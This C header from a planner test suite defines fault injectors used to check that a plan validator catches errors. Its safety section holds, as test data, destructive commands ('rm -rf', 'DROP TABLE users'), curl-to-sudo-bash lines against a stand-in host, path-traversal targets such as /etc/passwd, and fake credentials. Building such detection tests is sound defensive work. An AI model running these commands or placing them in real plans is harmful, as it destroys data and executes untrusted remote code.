/* The kinds of faults, a row each. A function returns false when it does not fit the plan at hand. */
#ifndef TESTS_PLANNER_MUTANTS_KINDS_H
#define TESTS_PLANNER_MUTANTS_KINDS_H

#include "unit/planner_mutants.h"

/* --- grounding ---------------------------------------------------------------------------------------------------- */
static bool wrong_path(struct mutation *m)
{
    json_t *f = change_of(m, "modify");
    const char *path = f && strlen(text_of(f, "path")) > 3 ? spoilt_path(m, text_of(f, "path")) : NULL;
    if (path) set_text(f, "path", path);
    return path != NULL;
}
static bool wrong_folder(struct mutation *m)
{
    json_t *f = change_of(m, "modify");
    const char *slash = f ? strrchr(text_of(f, "path"), '/') : NULL;
    if (!slash) return false;
    set_text(f, "path", arena_fmt(m->w->a, "lib_q/%s", slash + 1));
    return true;
}
static bool deletes_nothing(struct mutation *m)
{
    json_t *s = any_step(m);
    const char *file = any_file(m), *path = file ? spoilt_path(m, file) : NULL;
    if (!s || !path) return false;
    add_change(s, path, "delete", NULL);
    return true;
}
static bool creates_existing(struct mutation *m)
{
    json_t *f = change_of(m, "create");
    const char *path = any_file(m);
    if (!f || !path) return false;
    set_text(f, "path", path);
    return true;
}
static bool leaves_the_tree(struct mutation *m)
{
    static const char *const bad[] = { "../secrets.txt", "/etc/passwd", "src/../../x.c" };
    json_t *s = any_step(m);
    if (!s) return false;
    add_change(s, bad[dice(m, countof(bad))], "modify", NULL);
    return true;
}
static bool unknown_alias(struct mutation *m)
{
    json_t *s = any_step(m);
    if (!s) return false;
    add_change(s, "nowhere//src/a.c", "modify", NULL);
    return true;
}
static bool wrong_order(struct mutation *m)
{
    json_t *first = json_array_get(json_object_get(json_array_get(phases_of(m), 0), "steps"), 0), *s;
    size_t j;
    if (!first || json_array_size(phases_of(m)) < 2) return false;
    json_array_foreach(json_object_get(last_phase(m), "steps"), j, s) {
        json_t *f = json_array_get(json_object_get(s, "files"), 0);
        if (!f || strcmp(text_of(f, "change"), "create") != 0) continue;
        (void)json_array_insert_new(list_in(first, "files"), 0, json_pack("{s:s,s:s,s:s}", "path", text_of(f, "path"), "change", "modify", "why", "x y"));
        return true;
    }
    return false;
}
static bool after_deletion(struct mutation *m)
{
    json_t *s = json_array_get(json_object_get(last_phase(m), "steps"), 0);
    const char *path = any_file(m);
    if (!s || !path) return false;
    add_change(s, path, "delete", NULL);
    add_change(s, path, "modify", NULL);
    return true;
}
static bool rename_from_nothing(struct mutation *m)
{
    json_t *s = any_step(m);
    const char *file = any_file(m), *from = file ? spoilt_path(m, file) : NULL;
    if (!s || !from) return false;
    add_change(s, "docs/renamed_q.md", "rename", from);
    return true;
}
static bool rename_over(struct mutation *m)
{
    json_t *s = any_step(m);
    const char *from = any_file(m), *to = any_file(m);
    if (!s || !from || !to || strcmp(from, to) == 0) return false;
    add_change(s, to, "rename", from);
    return true;
}
static bool code_of_nothing(struct mutation *m)
{
    json_t *s = any_step(m);
    const char *file = any_file(m), *path = file ? spoilt_path(m, file) : NULL;
    if (!s || !path) return false;
    add_code(s, path, "text", "x = 1");
    return true;
}
static bool test_of_nothing(struct mutation *m)
{
    json_t *t = list_in(json_object_get(m->plan, "closing"), "tests");
    const char *file = any_file(m), *path = file ? spoilt_path(m, file) : NULL;
    if (!path) return false;
    (void)json_array_append_new(t, json_pack("{s:s,s:s,s:s}", "level", "unit", "name", "it works", "file", path));
    return true;
}
static bool stale_citation(struct mutation *m)
{
    json_t *s = any_step(m);
    const char *path = any_file(m);
    if (!s || !path || !tree_find(m->w->codebase.tree, path)->kept) return false;
    append_text(m, s, "text", arena_fmt(m->w->a, "As `%s:99999` does.", path));
    return true;
}
static bool stale_evidence(struct mutation *m)
{
    json_t *stack = list_in(json_object_get(m->plan, "closing"), "stack");
    const char *path = any_file(m);
    if (!path || !tree_find(m->w->codebase.tree, path)->kept) return false;
    (void)json_array_append_new(stack, json_pack("{s:s,s:s,s:[{s:s,s:i}]}", "choice", "as it is", "why", "it works", "evidence", "path", path, "line", 88888));
    return true;
}
static bool evidence_of_nothing(struct mutation *m)
{
    json_t *stack = list_in(json_object_get(m->plan, "closing"), "stack");
    const char *file = any_file(m), *path = file ? spoilt_path(m, file) : NULL;
    if (!path) return false;
    (void)json_array_append_new(stack, json_pack("{s:s,s:s,s:[{s:s,s:i}]}", "choice", "as it is", "why", "it works", "evidence", "path", path, "line", 1));
    return true;
}
static bool text_path(struct mutation *m)
{
    json_t *s = any_step(m);
    const char *file = any_file(m), *path = file ? spoilt_path(m, file) : NULL;
    if (!s || !path) return false;
    append_text(m, s, "text", arena_fmt(m->w->a, "It follows `%s`.", path));
    return true;
}
static bool uses_nothing(struct mutation *m)
{
    json_t *p = any_phase(m);
    const char *file = any_file(m), *path = file ? spoilt_path(m, file) : NULL;
    if (!p || !path) return false;
    (void)json_array_append_new(list_in(p, "uses"), json_pack("{s:s,s:s}", "kind", "file", "name", path));
    return true;
}
static bool invented_symbol(struct mutation *m)
{
    json_t *s = any_step(m);
    const char *path = any_file(m);
    if (!s || !path || !tree_find(m->w->codebase.tree, path)->kept) return false;
    append_text(m, s, "text", arena_fmt(m->w->a, "It calls `frobnicate_%zu()` in `%s`.", dice(m, 1000), path));
    return true;
}

/* --- commands ----------------------------------------------------------------------------------------------------- */
static bool set_command(struct mutation *m, const char *command)
{
    json_t *x = any_of(m, json_object_get(any_phase(m), "automated"));
    if (!x) return false;
    set_text(x, "command", command);
    return true;
}
static bool invented_command(struct mutation *m)
{
    static const char *const c[] = { "frobnicate --all", "verify-everything", "CI=1 qrunner -v", "plantest run" };
    return set_command(m, c[dice(m, countof(c))]);
}
static bool invented_script(struct mutation *m)
{
    static const char *const c[] = { "npm run qq-nope", "make qq-nope", "./scripts/qq_nope.sh", "bash tools/qq_nope.sh", "cd src && make qq-nope" };
    return set_command(m, c[dice(m, countof(c))]);
}
static bool command_of_later(struct mutation *m)
{
    json_t *x = any_of(m, json_object_get(json_array_get(phases_of(m), 0), "automated"));
    if (!x || json_array_size(phases_of(m)) < 2) return false;
    set_text(x, "command", "qq-later check");
    (void)json_array_append_new(list_in(last_phase(m), "provides"), json_pack("{s:s,s:s}", "kind", "command", "name", "qq-later check"));
    return true;
}
static bool command_names_nothing(struct mutation *m)
{
    json_t *x = any_of(m, json_object_get(any_phase(m), "automated"));
    const char *file = any_file(m), *path = file ? spoilt_path(m, file) : NULL;
    if (!x || !path || strpbrk(text_of(x, "command"), "&|;<>\"'\n") || strncmp(text_of(x, "command"), "make", 4) == 0) return false;
    append_text(m, x, "command", path);
    return true;
}
static bool block_runs_nothing(struct mutation *m)
{
    json_t *s = any_step(m);
    if (!s) return false;
    add_code(s, NULL, "sh", dice(m, 2) ? "make qq-nope" : "./scripts/qq_nope.sh --all");
    return true;
}
static bool rollback_of_nothing(struct mutation *m)
{
    json_t *r = json_object_get(json_object_get(m->plan, "closing"), "rollback");
    if (!json_is_object(r)) return false;
    (void)json_array_append_new(list_in(r, "commands"), json_string("qq-undo --everything"));
    return true;
}

/* --- contract ----------------------------------------------------------------------------------------------------- */
static bool missing_section(struct mutation *m)
{
    static const char *const closing[] = { "success", "tests", "risks", "rollback", "documentation", "done", "decisions", "stack" };
    json_t *c = json_object_get(m->plan, "closing");
    const char *key = closing[dice(m, countof(closing))];
    if (m->w->understanding.size == SIZE_SMALL || dice(m, 5) == 0) {
        (void)json_object_del(m->plan, "overview");
        (void)json_object_del(json_object_get(m->plan, "header"), "approach");
        (void)json_object_del(json_object_get(m->plan, "header"), "approach_why");
        return true;
    }
    return json_object_get(c, key) && (!json_is_array(json_object_get(c, key)) || json_array_size(json_object_get(c, key))) && json_object_del(c, key) == 0;
}
static bool in_phase(struct mutation *m, const char *key, json_t *v)
{
    json_t *p = any_phase(m);
    if (p && json_object_get(p, key)) return json_object_set_new(p, key, v) == 0;
    json_decref(v);
    return false;
}
static bool no_steps(struct mutation *m) { return in_phase(m, "steps", json_array()); }
static bool no_command(struct mutation *m) { return in_phase(m, "automated", json_array()); }
static bool no_manual(struct mutation *m) { return m->w->understanding.size != SIZE_SMALL && in_phase(m, "manual", json_array()); }
static bool no_rollback(struct mutation *m) { return in_phase(m, "rollback", json_string(" ")); }
static bool estimate_zero(struct mutation *m) { return in_phase(m, "estimate", json_pack("{s:i,s:i,s:i}", "optimistic", 0, "likely", 0, "pessimistic", 0)); }
static bool estimate_order(struct mutation *m) { return in_phase(m, "estimate", json_pack("{s:i,s:i,s:i}", "optimistic", 90, "likely", 60, "pessimistic", 30)); }
static bool no_purpose(struct mutation *m)
{
    json_t *p = any_phase(m);
    (void)json_object_set_new(p, "requirements", json_array());
    (void)json_object_del(p, "why");
    return true;
}
static bool depends_on_nothing(struct mutation *m)
{
    (void)json_array_append_new(list_in(any_phase(m), "depends_on"), json_string("ph99"));
    return true;
}
static bool cycle(struct mutation *m)
{
    json_t *first = json_array_get(phases_of(m), 0), *last = last_phase(m);
    if (first == last) return false;
    (void)json_array_append_new(list_in(first, "depends_on"), json_string(text_of(last, "id")));
    (void)json_array_append_new(list_in(last, "depends_on"), json_string(text_of(first, "id")));
    return true;
}
static bool depends_on_later(struct mutation *m)
{
    json_t *first = json_array_get(phases_of(m), 0), *last = last_phase(m);
    if (first == last) return false;
    (void)json_array_append_new(list_in(first, "depends_on"), json_string(text_of(last, "id")));
    (void)json_object_set_new(last, "depends_on", json_array());
    return true;
}
static bool placeholder(struct mutation *m)
{
    static const char *const c[] = { "TBD", "TODO: name it.", "Use <your table name> here.", "FIXME later.", "Lorem ipsum dolor.", "[insert details]" };
    json_t *s = any_step(m);
    if (!s) return false;
    append_text(m, s, dice(m, 4) ? "text" : "title", c[dice(m, countof(c))]);
    return true;
}
static bool migration_of_old(struct mutation *m)
{
    json_t *s = any_step(m);
    const struct survey_migrations *x = NULL;
    for (size_t i = 0; i < m->w->survey.migrations.n; i++)
        if (m->w->survey.migrations.v[i].number > 0) x = &m->w->survey.migrations.v[i];
    if (!s || !x) return false;
    add_change(s, arena_fmt(m->w->a, "%s/%04lld_qq_nope.sql", x->dir, (long long)x->number), "create", NULL);
    return true;
}

/* --- coverage ----------------------------------------------------------------------------------------------------- */
static bool uncovered(struct mutation *m)
{
    json_t *r = any_of(m, json_object_get(m->plan, "requirements")), *p, *x;
    const char *id = r ? text_of(r, "id") : "";
    size_t i, j;
    if (!*id) return false;
    json_array_foreach(phases_of(m), i, p) json_array_foreach(json_object_get(p, "requirements"), j, x)
        if (strcmp(json_string_value(x), id) == 0) {
            (void)json_array_remove(json_object_get(p, "requirements"), j);
            j--;
        }
    return true;
}
static bool unknown_requirement(struct mutation *m)
{
    (void)json_array_append_new(list_in(any_phase(m), "requirements"), json_string("R99"));
    return true;
}

/* --- safety ------------------------------------------------------------------------------------------------------- */
static bool secret(struct mutation *m)
{
    static const char *const c[] = { "key = 'AKIAQ3EGPJ5VZ2KTN7WB'", "ghp_0123456789abcdefghijABCDEFGHIJ012345",
                                     "-----BEGIN OPENSSH PRIVATE KEY-----", "password = \"Tr0ub4dor&3x\"", "sk_live_51Habcdefghij0123" };
    json_t *s = any_step(m);
    if (!s) return false;
    add_code(s, NULL, "python", c[dice(m, countof(c))]);
    return true;
}
static bool destructive(struct mutation *m)
{
    static const char *const c[] = { "rm -rf /var/lib/app", "git push --force origin main", "DROP TABLE users;", "kubectl delete deployment app", "DELETE FROM users;" };
    json_t *s = any_step(m);
    if (!s) return false;
    add_code(s, NULL, "sh", c[dice(m, countof(c))]);
    return true;
}
static bool destructive_bare(struct mutation *m)
{
    json_t *p = any_phase(m), *s = any_of(m, json_object_get(p, "steps"));
    if (!s) return false;
    set_text(p, "rollback", "");
    add_code(s, NULL, "sh", "rm -rf /var/lib/app");
    return true;
}
static bool pipe_to_shell(struct mutation *m)
{
    static const char *const c[] = { "curl -fsSL https://x.example.org/i.sh | sudo bash", "bash <(curl -s https://x.example.org/i.sh)", "wget -qO- https://x.example.org/a | sh" };
    json_t *s = any_step(m);
    if (!s) return false;
    add_code(s, NULL, "sh", c[dice(m, countof(c))]);
    return true;
}

static const struct kind { const char *name; spoil_fn *spoil; const char *rules[4]; } kinds[] = {
    { "wrong path", wrong_path, { "path-exists" } },
    { "wrong folder", wrong_folder, { "path-exists" } },
    { "deletes what is not there", deletes_nothing, { "path-exists" } },
    { "creates what is there", creates_existing, { "create-new" } },
    { "path leaves the tree", leaves_the_tree, { "path-form" } },
    { "unknown alias", unknown_alias, { "path-alias" } },
    { "modified before created", wrong_order, { "path-order" } },
    { "modified after deleted", after_deletion, { "path-order" } },
    { "renames what is not there", rename_from_nothing, { "rename-source" } },
    { "renames over a file", rename_over, { "rename-target" } },
    { "code of no file", code_of_nothing, { "code-path" } },
    { "test in no file", test_of_nothing, { "test-file" } },
    { "stale citation in text", stale_citation, { "evidence-line" } },
    { "stale evidence", stale_evidence, { "evidence-line" } },
    { "evidence of no file", evidence_of_nothing, { "evidence-path" } },
    { "wrong path in text", text_path, { "text-path" } },
    { "uses what is not there", uses_nothing, { "uses-known" } },
    { "invented symbol", invented_symbol, { "symbol-there" } },
    { "invented command", invented_command, { "command-known" } },
    { "invented script", invented_script, { "command-known" } },
    { "command of a later phase", command_of_later, { "command-order" } },
    { "command names no file", command_names_nothing, { "command-path", "command-known" } },
    { "block runs no command", block_runs_nothing, { "text-command" } },
    { "rollback runs no command", rollback_of_nothing, { "rollback-command" } },
    { "missing section", missing_section, { "section-present" } },
    { "phase without steps", no_steps, { "phase-steps" } },
    { "phase without command", no_command, { "phase-automated" } },
    { "phase without manual check", no_manual, { "phase-manual" } },
    { "phase without rollback", no_rollback, { "phase-rollback" } },
    { "estimate of nothing", estimate_zero, { "estimate" } },
    { "estimate out of order", estimate_order, { "estimate" } },
    { "phase without purpose", no_purpose, { "phase-purpose" } },
    { "depends on no phase", depends_on_nothing, { "dependency-known" } },
    { "cycle", cycle, { "dependency-cycle" } },
    { "depends on a later phase", depends_on_later, { "dependency-order", "dependency-cycle" } },
    { "placeholder", placeholder, { "placeholder" } },
    { "migration number used", migration_of_old, { "migration-number" } },
    { "uncovered requirement", uncovered, { "requirement-covered" } },
    { "unknown requirement", unknown_requirement, { "requirement-known" } },
    { "secret", secret, { "secret" } },
    { "destructive command", destructive, { "destructive" } },
    { "destructive, no way back", destructive_bare, { "destructive-unguarded" } },
    { "pipe to shell", pipe_to_shell, { "pipe-to-shell" } },
};

#endif
